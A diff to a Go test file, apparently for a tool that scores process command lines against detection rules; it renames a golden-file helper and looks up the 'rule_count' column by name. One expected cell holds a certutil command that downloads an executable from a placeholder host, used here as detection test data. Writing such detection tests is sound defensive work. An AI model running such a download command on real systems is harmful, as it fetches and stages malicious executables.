@@ -26,6 +26,7 @@ import (
 	"os"
 	"os/exec"
 	"strconv"
+	"slices"
 	"strings"
 	"syscall"
 	"testing"
@@ -418,7 +419,7 @@ func TestBadInputSuite(t *testing.T) {
 		})
 	}
 	if !t.Failed() {
-		golden(t, "badinput", record.String())
+		checkGolden(t, "badinput", record.String())
 	}
 }
 
@@ -588,8 +589,9 @@ func TestManyColumns(t *testing.T) {
 		if len(recs) != 3 || len(recs[0]) != cols+len(outNames) || len(recs[1]) != cols+len(outNames) {
 			return fmt.Errorf("%d records of %d fields", len(recs), len(recs[0]))
 		}
+		count := cols + slices.Index(outNames, "rule_count")
 		if recs[0][cols-1] != "process" || recs[0][cols] != "score" || recs[1][cols-2] != "8" ||
-			recs[2][cols-1] != "certutil -urlcache -split -f http://x/y.exe" || recs[2][cols+2] != "1" {
+			recs[2][cols-1] != "certutil -urlcache -split -f http://x/y.exe" || recs[0][count] != "rule_count" || recs[2][count] != "1" {
 			return fmt.Errorf("wrong cells: %q %q %q", recs[0][cols-1:cols+1], recs[1][cols-2:cols], recs[2][cols-1:cols+3])
 		}
 		return nil
